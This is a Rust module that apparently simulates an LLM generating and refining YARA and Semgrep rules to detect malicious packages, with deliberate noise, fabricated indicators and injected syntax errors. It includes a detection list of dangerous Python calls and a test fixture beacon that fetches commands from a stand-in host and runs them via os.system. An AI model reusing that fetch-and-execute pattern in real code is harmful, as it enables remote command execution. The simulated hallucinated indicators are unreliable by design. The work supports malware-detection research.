//! Rule emission with the calibrated noise model (craft + refine).

use rand::rngs::StdRng;
use rand::Rng;

use crate::analyzer::{analyze_code, analyze_metadata, Analysis, Indicator, IndicatorKind};
use crate::profile::ModelProfile;
use crate::prompt::RuleFormat;

/// Over-general strings a sloppy model keys rules on. The refiner knows
/// this pool and strips them (guideline 1 of §IV-B); when they survive,
/// precision drops — which is the Table IX signature of Claude/Llama.
pub const OVERGENERAL: &[&str] = &[
    "import os",
    "import sys",
    "import requests",
    "import base64",
    "subprocess",
    "open(",
    "def main",
];

const HALLUCINATED: &[&str] = &[
    "evil_helper_3000",
    "self_destruct_sequence",
    "http://not-actually-present.invalid/payload",
    "DecryptAndLaunchMissiles",
];

/// Crafting handler (Table III): analyze, add noise, emit a coarse rule.
///
/// `inputs` holds the basic units sampled from one cluster (§IV-A
/// "Multiple Similar Units"): indicators of compromise that are specific
/// to one variant (hosts, URLs, IPs) are kept only when *shared* across
/// units, which is exactly how multi-unit prompting "avoids reliance on
/// specific implementation details".
pub fn craft(
    profile: &ModelProfile,
    rng: &mut StdRng,
    format: RuleFormat,
    inputs: &[String],
    metadata_json: Option<&str>,
    kb: Option<&crate::rag::KnowledgeBase>,
) -> String {
    let per_input: Vec<Analysis> = inputs.iter().map(|i| analyze_code(i)).collect();
    let mut analysis = Analysis::default();
    for a in &per_input {
        if analysis.summary.is_empty() || analysis.summary.contains("no malicious") {
            analysis.summary = a.summary.clone();
        }
        for ind in &a.indicators {
            if analysis.indicators.contains(ind) {
                continue;
            }
            let generalizes = ind.kind != crate::analyzer::IndicatorKind::Ioc
                || per_input.len() == 1
                || per_input
                    .iter()
                    .filter(|other| other.indicators.iter().any(|o| o.text == ind.text))
                    .count()
                    >= 2;
            if generalizes {
                analysis.indicators.push(ind.clone());
            }
        }
    }
    if let Some(json) = metadata_json {
        let meta = analyze_metadata(json);
        analysis.indicators.extend(meta.indicators);
        if (analysis.summary.is_empty() || analysis.summary.contains("no malicious"))
            && !analysis.indicators.is_empty()
        {
            analysis.summary = "suspicious package metadata".into();
        }
    }
    let code: String = inputs.join("\n");
    apply_noise(profile, rng, &mut analysis, code.len());
    // RAG grounding (§VI): retrieval both recovers missed knowledge and
    // vetoes fabricated/over-general strings — after the noise, because
    // that is what retrieval corrects.
    if let Some(kb) = kb {
        kb.ground(&mut analysis, &code);
    }
    let rule = match format {
        RuleFormat::Yara => render_yara(&analysis, &code, "any of them"),
        RuleFormat::Semgrep => render_semgrep(&analysis, &code),
    };
    let rule = maybe_corrupt(profile, rng, format, rule);
    format!(
        "=== ANALYSIS ===\n{}\n=== RULE ===\n{}",
        analysis.to_text(),
        rule
    )
}

/// Refinement handler (Table IV): self-reflect against the analysis,
/// strip over-general strings, tighten the condition, merge rules.
pub fn refine(profile: &ModelProfile, rng: &mut StdRng, format: RuleFormat, input: &str) -> String {
    let analysis = Analysis::from_text(input);
    if !rng.gen_bool(profile.merge_skill) {
        // The model failed to improve the rule; echo it back.
        let rule = extract_rule_text(input, format);
        return format!("=== RULE ===\n{rule}");
    }
    let rule = match format {
        RuleFormat::Yara => {
            let mut strings = extract_yara_strings(input);
            // Self-reflection: re-add analysis indicators the coarse rule
            // lost, drop over-general entries, dedup.
            for ind in &analysis.indicators {
                if !strings.iter().any(|(t, _)| t == &ind.text) {
                    strings.push((ind.text.clone(), ind.is_regex));
                }
            }
            strings.retain(|(t, _)| !OVERGENERAL.contains(&t.as_str()));
            strings.dedup();
            let condition = match strings.len() {
                0 | 1 => "any of them".to_owned(),
                2 => "all of them".to_owned(),
                _ => "2 of them".to_owned(),
            };
            let name_seed = input.to_owned();
            render_yara_from_strings(&analysis, &name_seed, &strings, &condition)
        }
        RuleFormat::Semgrep => {
            let mut patterns = extract_semgrep_patterns(input);
            patterns.retain(|p| !OVERGENERAL.contains(&p.as_str()) && p != "print(...)");
            patterns.dedup();
            render_semgrep_from_patterns(&analysis, input, &patterns)
        }
    };
    let rule = maybe_corrupt(profile, rng, format, rule);
    format!("=== RULE ===\n{rule}")
}

// ---- noise ----

fn apply_noise(
    profile: &ModelProfile,
    rng: &mut StdRng,
    analysis: &mut Analysis,
    payload_len: usize,
) {
    // Long-prompt dilution: LLM extraction quality degrades with payload
    // size ("LLMs struggle to process the extensive source code of many
    // malicious packages", §I). Basic units (a few KB) pay almost nothing;
    // whole packages (tens of KB) lose most indicators — which is exactly
    // why the basic-unit ablation arm matters (Table X).
    let dilution = (payload_len as f64 / 30_000.0).min(0.8);
    let miss = (profile.feature_miss_rate + dilution * (1.0 - profile.feature_miss_rate)).min(0.9);
    analysis.indicators.retain(|_| !rng.gen_bool(miss));
    if rng.gen_bool(profile.overgeneral_rate) {
        let pick = OVERGENERAL[rng.gen_range(0..OVERGENERAL.len())];
        analysis.indicators.push(Indicator {
            text: pick.to_owned(),
            kind: IndicatorKind::File,
            is_regex: false,
        });
    }
    if rng.gen_bool(profile.hallucination_rate) {
        let pick = HALLUCINATED[rng.gen_range(0..HALLUCINATED.len())];
        analysis.indicators.push(Indicator {
            text: pick.to_owned(),
            kind: IndicatorKind::Ioc,
            is_regex: false,
        });
    }
}

/// Injects one realistic syntax/semantic error with the profile's rate.
/// The corruption modes mirror Table V's six instruction categories.
pub fn maybe_corrupt(
    profile: &ModelProfile,
    rng: &mut StdRng,
    format: RuleFormat,
    rule: String,
) -> String {
    if !rng.gen_bool(profile.syntax_error_rate) {
        return rule;
    }
    match format {
        RuleFormat::Yara => match rng.gen_range(0..6) {
            // 1. Missing or incomplete parts.
            0 => match rule.find("condition:") {
                Some(at) => format!("{}}}", &rule[..at]),
                None => rule,
            },
            // 2. Syntax error: drop a closing quote.
            1 => match rule.rfind('"') {
                Some(at) => format!("{}{}", &rule[..at], &rule[at + 1..]),
                None => rule,
            },
            // 3. Undefined string in condition.
            2 => rule.replace("condition:", "condition:\n        $undefined_ref and"),
            // 4. Regular expression issue.
            3 => {
                if rule.contains("= /") {
                    rule.replacen("= /", "= /[", 1)
                } else {
                    rule.replace("condition:", "condition:\n        $bad_re or")
                }
            }
            // 5. Invalid meta field value.
            4 => rule.replace("meta:", "meta:\n        confidence = $high"),
            // 6. File encoding issue (BOM).
            _ => format!("\u{FEFF}{rule}"),
        },
        RuleFormat::Semgrep => match rng.gen_range(0..5) {
            0 => rule
                .lines()
                .filter(|l| !l.trim_start().starts_with("message:"))
                .collect::<Vec<_>>()
                .join("\n"),
            1 => rule.replacen("id:", "id", 1),
            2 => rule.replacen("pattern:", "pattern-regexp:", 1),
            3 => rule
                .lines()
                .filter(|l| !l.trim_start().starts_with("languages:"))
                .collect::<Vec<_>>()
                .join("\n"),
            _ => rule.replacen("  - id:", "      - id:", 1),
        },
    }
}

// ---- YARA rendering ----

fn yara_escape(text: &str) -> String {
    text.replace('\\', "\\\\")
        .replace('"', "\\\"")
        .replace('\n', "\\n")
        .replace('\t', "\\t")
        .replace('\r', "\\r")
}

/// Undoes [`yara_escape`] and [`Analysis::to_text`]'s escapes, left to
/// right: `\\`, `\"`, `\n`, `\t` and `\r` each become the char they
/// stand for; any other backslash stays as written.
pub(crate) fn unescape(escaped: &str) -> String {
    let mut text = String::with_capacity(escaped.len());
    let mut chars = escaped.chars();
    while let Some(c) = chars.next() {
        if c != '\\' {
            text.push(c);
            continue;
        }
        match chars.next() {
            Some('n') => text.push('\n'),
            Some('t') => text.push('\t'),
            Some('r') => text.push('\r'),
            Some(c @ ('\\' | '"')) => text.push(c),
            Some(other) => {
                text.push('\\');
                text.push(other);
            }
            None => text.push('\\'),
        }
    }
    text
}

fn regex_escape_slashes(pattern: &str) -> String {
    pattern.replace('/', "\\/")
}

fn slug(kind_summary: &str) -> String {
    let mut out = String::new();
    for c in kind_summary.chars() {
        if c.is_ascii_alphanumeric() {
            out.push(c.to_ascii_lowercase());
        } else if !out.ends_with('_') && !out.is_empty() {
            out.push('_');
        }
        if out.len() > 28 {
            break;
        }
    }
    out.trim_matches('_').to_owned()
}

fn render_yara(analysis: &Analysis, code: &str, condition: &str) -> String {
    let strings: Vec<(String, bool)> = analysis
        .indicators
        .iter()
        .map(|i| (i.text.clone(), i.is_regex))
        .collect();
    render_yara_from_strings(analysis, code, &strings, condition)
}

fn render_yara_from_strings(
    analysis: &Analysis,
    name_seed: &str,
    strings: &[(String, bool)],
    condition: &str,
) -> String {
    let name = format!(
        "mal_{}_{:08x}",
        if analysis.summary.is_empty() {
            "pkg".to_owned()
        } else {
            slug(&analysis.summary)
        },
        digest::fnv1a(name_seed.as_bytes()) as u32
    );
    let mut out = format!(
        "rule {name} {{\n    meta:\n        description = \"{}\"\n        author = \"RuleLLM\"\n",
        yara_escape(&analysis.summary)
    );
    if strings.is_empty() {
        // Nothing extracted: the model still emits *something*; a rule
        // that can never fire (and will be culled downstream).
        out.push_str("    strings:\n        $s0 = \"__no_indicators_extracted__\"\n    condition:\n        $s0\n}\n");
        return out;
    }
    out.push_str("    strings:\n");
    for (i, (text, is_regex)) in strings.iter().enumerate() {
        if *is_regex {
            out.push_str(&format!(
                "        $s{i} = /{}/\n",
                regex_escape_slashes(text)
            ));
        } else {
            out.push_str(&format!("        $s{i} = \"{}\"\n", yara_escape(text)));
        }
    }
    out.push_str(&format!("    condition:\n        {condition}\n}}\n"));
    out
}

// ---- Semgrep rendering ----

/// Callee paths worth turning into Semgrep patterns.
const PATTERN_CALLEES: &[&str] = &[
    "os.system",
    "os.popen",
    "os.setuid",
    "os.kill",
    "subprocess.Popen",
    "subprocess.call",
    "subprocess.run",
    "subprocess.check_output",
    "base64.b64decode",
    "requests.post",
    "requests.get",
    "urllib.request.urlretrieve",
    "urllib.request.urlopen",
    "socket.socket",
    "socket.gethostbyname",
    "eval",
    "exec",
    "ImageGrab.grab",
];

fn render_semgrep(analysis: &Analysis, code: &str) -> String {
    let module = pysrc::parse_module(code);
    let mut patterns: Vec<String> = Vec::new();
    for call in pysrc::collect_calls(&module) {
        let path = call.func_path(&module);
        if PATTERN_CALLEES.contains(&path.as_str())
            && !patterns.iter().any(|p| p.starts_with(&path))
        {
            patterns.push(format!("{path}(...)"));
        }
    }
    // Noise indicators also become patterns (over-general / hallucinated).
    for ind in &analysis.indicators {
        if OVERGENERAL.contains(&ind.text.as_str()) && ind.text.starts_with("import ") {
            patterns.push(ind.text.clone());
        }
        if HALLUCINATED.contains(&ind.text.as_str()) && !ind.text.contains('/') {
            patterns.push(format!("{}(...)", ind.text));
        }
    }
    patterns.dedup();
    render_semgrep_from_patterns(analysis, code, &patterns)
}

fn render_semgrep_from_patterns(analysis: &Analysis, id_seed: &str, patterns: &[String]) -> String {
    let id = format!(
        "detect-{}-{:08x}",
        slug(&analysis.summary).replace('_', "-"),
        digest::fnv1a(id_seed.as_bytes()) as u32
    );
    let message = if analysis.summary.is_empty() {
        "suspicious package behavior".to_owned()
    } else {
        analysis.summary.clone()
    };
    let mut out = format!(
        "rules:\n  - id: {id}\n    languages: [python]\n    message: \"{}\"\n    severity: WARNING\n",
        message.replace('"', "'")
    );
    match patterns.len() {
        0 => out.push_str("    pattern: __no_pattern_extracted__(...)\n"),
        1 => out.push_str(&format!("    pattern: {}\n", patterns[0])),
        _ => {
            out.push_str("    pattern-either:\n");
            for p in patterns {
                out.push_str(&format!("      - pattern: {p}\n"));
            }
        }
    }
    out.push_str("    metadata:\n      source: rulellm\n");
    out
}

// ---- text extraction (for refine / fix over possibly-corrupt rules) ----

/// Pulls the rule body out of mixed analysis+rule prompt input.
pub fn extract_rule_text(input: &str, format: RuleFormat) -> String {
    let marker = match format {
        RuleFormat::Yara => "rule ",
        RuleFormat::Semgrep => "rules:",
    };
    match input.find(marker) {
        Some(at) => input[at..].trim().to_owned(),
        None => input.trim().to_owned(),
    }
}

/// Line-based extraction of `$id = "..."` / `$id = /.../` entries; robust
/// to corrupt rules that the real parser rejects.
pub fn extract_yara_strings(input: &str) -> Vec<(String, bool)> {
    let mut out = Vec::new();
    for line in input.lines() {
        let t = line.trim();
        if !t.starts_with('$') {
            continue;
        }
        let Some((_, rhs)) = t.split_once('=') else {
            continue;
        };
        let rhs = rhs.trim();
        if let Some(stripped) = rhs.strip_prefix('"') {
            if let Some(end) = stripped.rfind('"') {
                out.push((unescape(&stripped[..end]), false));
            }
        } else if let Some(stripped) = rhs.strip_prefix('/') {
            if let Some(end) = stripped.rfind('/') {
                out.push((stripped[..end].replace("\\/", "/"), true));
            }
        }
    }
    out
}

/// Line-based extraction of `pattern:` entries from (possibly corrupt)
/// Semgrep YAML.
pub fn extract_semgrep_patterns(input: &str) -> Vec<String> {
    let mut out = Vec::new();
    for line in input.lines() {
        let t = line.trim().trim_start_matches("- ");
        for key in ["pattern:", "pattern-regexp:"] {
            if let Some(rest) = t.strip_prefix(key) {
                let p = rest.trim().trim_matches('|').trim();
                if !p.is_empty() {
                    out.push(p.to_owned());
                }
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;

    fn quiet_profile() -> ModelProfile {
        ModelProfile {
            name: "test-quiet",
            context_tokens: 32_000,
            feature_miss_rate: 0.0,
            overgeneral_rate: 0.0,
            hallucination_rate: 0.0,
            syntax_error_rate: 0.0,
            fix_skill: 1.0,
            merge_skill: 1.0,
        }
    }

    const CODE: &str = "import os, requests\n\ndef beacon():\n    cmd = requests.get('https://zorbex.xyz/tasks').text\n    os.system(cmd)\n";

    #[test]
    fn craft_yara_compiles_without_noise() {
        let mut rng = StdRng::seed_from_u64(1);
        let reply = craft(
            &quiet_profile(),
            &mut rng,
            RuleFormat::Yara,
            &[CODE.to_owned()],
            None,
            None,
        );
        let (_, rule) = crate::split_reply(&reply);
        let compiled = yara_engine::compile(&rule);
        assert!(compiled.is_ok(), "{rule}\n{:?}", compiled.err());
    }

    #[test]
    fn craft_semgrep_compiles_without_noise() {
        let mut rng = StdRng::seed_from_u64(1);
        let reply = craft(
            &quiet_profile(),
            &mut rng,
            RuleFormat::Semgrep,
            &[CODE.to_owned()],
            None,
            None,
        );
        let (_, rule) = crate::split_reply(&reply);
        let compiled = semgrep_engine::compile(&rule);
        assert!(compiled.is_ok(), "{rule}\n{:?}", compiled.err());
    }

    #[test]
    fn crafted_yara_matches_the_source_family() {
        let mut rng = StdRng::seed_from_u64(1);
        let reply = craft(
            &quiet_profile(),
            &mut rng,
            RuleFormat::Yara,
            &[CODE.to_owned()],
            None,
            None,
        );
        let (_, rule) = crate::split_reply(&reply);
        let compiled = yara_engine::compile(&rule).expect("compile");
        let scanner = yara_engine::Scanner::new(&compiled);
        assert!(scanner.is_match(CODE.as_bytes()));
        // A different variant of the same behavior should also match
        // (any-of semantics over API strings).
        let variant = CODE.replace("zorbex.xyz", "bexlum.top");
        assert!(scanner.is_match(variant.as_bytes()));
    }

    #[test]
    fn corruption_produces_compile_errors() {
        let mut profile = quiet_profile();
        profile.syntax_error_rate = 1.0;
        let mut rng = StdRng::seed_from_u64(3);
        let mut failures = 0;
        for _ in 0..12 {
            let reply = craft(
                &profile,
                &mut rng,
                RuleFormat::Yara,
                &[CODE.to_owned()],
                None,
                None,
            );
            let (_, rule) = crate::split_reply(&reply);
            if yara_engine::compile(&rule).is_err() {
                failures += 1;
            }
        }
        assert!(
            failures >= 8,
            "only {failures}/12 corrupted rules failed to compile"
        );
    }

    #[test]
    fn semgrep_corruption_produces_compile_errors() {
        let mut profile = quiet_profile();
        profile.syntax_error_rate = 1.0;
        let mut rng = StdRng::seed_from_u64(4);
        let mut failures = 0;
        for _ in 0..10 {
            let reply = craft(
                &profile,
                &mut rng,
                RuleFormat::Semgrep,
                &[CODE.to_owned()],
                None,
                None,
            );
            let (_, rule) = crate::split_reply(&reply);
            if semgrep_engine::compile(&rule).is_err() {
                failures += 1;
            }
        }
        assert!(
            failures >= 7,
            "only {failures}/10 corrupted rules failed to compile"
        );
    }

    #[test]
    fn refine_strips_overgeneral_strings() {
        let mut profile = quiet_profile();
        profile.overgeneral_rate = 1.0;
        let mut rng = StdRng::seed_from_u64(5);
        let reply = craft(
            &profile,
            &mut rng,
            RuleFormat::Yara,
            &[CODE.to_owned()],
            None,
            None,
        );
        let (analysis, rule) = crate::split_reply(&reply);
        assert!(OVERGENERAL.iter().any(|o| rule.contains(o)), "{rule}");
        let refined_reply = refine(
            &quiet_profile(),
            &mut rng,
            RuleFormat::Yara,
            &format!("{analysis}\n{rule}"),
        );
        let (_, refined) = crate::split_reply(&refined_reply);
        assert!(
            !OVERGENERAL
                .iter()
                .any(|o| refined.contains(&format!("\"{o}\""))),
            "{refined}"
        );
        assert!(yara_engine::compile(&refined).is_ok(), "{refined}");
    }

    #[test]
    fn refine_tightens_condition() {
        let mut rng = StdRng::seed_from_u64(6);
        let reply = craft(
            &quiet_profile(),
            &mut rng,
            RuleFormat::Yara,
            &[CODE.to_owned()],
            None,
            None,
        );
        let (analysis, rule) = crate::split_reply(&reply);
        assert!(rule.contains("any of them"));
        let refined_reply = refine(
            &quiet_profile(),
            &mut rng,
            RuleFormat::Yara,
            &format!("{analysis}\n{rule}"),
        );
        let (_, refined) = crate::split_reply(&refined_reply);
        assert!(
            refined.contains("2 of them") || refined.contains("all of them"),
            "{refined}"
        );
    }

    #[test]
    fn refine_with_zero_merge_skill_is_noop() {
        let mut profile = quiet_profile();
        profile.merge_skill = 0.0;
        let mut rng = StdRng::seed_from_u64(7);
        let input = "summary: x\nrule keepme { strings: $a = \"q\" condition: $a }";
        let reply = refine(&profile, &mut rng, RuleFormat::Yara, input);
        assert!(reply.contains("keepme"));
    }

    #[test]
    fn extract_yara_strings_handles_regex_and_text() {
        let rule = "rule r {\n  strings:\n    $a = \"os.system\"\n    $b = /https?:\\/\\/x/\n  condition: all of them\n}";
        let strings = extract_yara_strings(rule);
        assert_eq!(strings.len(), 2);
        assert_eq!(strings[0], ("os.system".to_owned(), false));
        assert_eq!(strings[1], ("https?://x".to_owned(), true));
    }

    #[test]
    fn yara_text_strings_round_trip_through_their_escapes() {
        // Texts over every char `yara_escape` rewrites and the letters
        // its escapes end in, so a backslash before `n` or `t` comes up.
        const CHARS: [char; 9] = ['\\', '"', '\t', '\r', '\n', 'n', 't', 'r', ' '];
        let mut rng = StdRng::seed_from_u64(58);
        for _ in 0..2000 {
            let len = rng.gen_range(0..10);
            let text: String = (0..len)
                .map(|_| CHARS[rng.gen_range(0..CHARS.len())])
                .collect();
            let rule = format!(
                "rule r {{\n  strings:\n    $a = \"{}\"\n  condition: $a\n}}",
                yara_escape(&text)
            );
            assert_eq!(
                extract_yara_strings(&rule),
                [(text.clone(), false)],
                "{text:?}"
            );
        }
    }

    #[test]
    fn extract_semgrep_patterns_works() {
        let yaml = "rules:\n  - id: x\n    pattern-either:\n      - pattern: os.system(...)\n      - pattern: eval(...)\n";
        assert_eq!(
            extract_semgrep_patterns(yaml),
            vec!["os.system(...)".to_owned(), "eval(...)".to_owned()]
        );
    }

    #[test]
    fn metadata_indicators_reach_the_rule() {
        let meta = oss_registry::PackageMetadata::new("reqests", "0.0.0");
        let json = oss_registry::render_registry_json(&meta);
        let mut rng = StdRng::seed_from_u64(8);
        let reply = craft(
            &quiet_profile(),
            &mut rng,
            RuleFormat::Yara,
            &[String::new()],
            Some(&json),
            None,
        );
        let (_, rule) = crate::split_reply(&reply);
        assert!(rule.contains("0.0.0"), "{rule}");
        assert!(yara_engine::compile(&rule).is_ok(), "{rule}");
    }
}
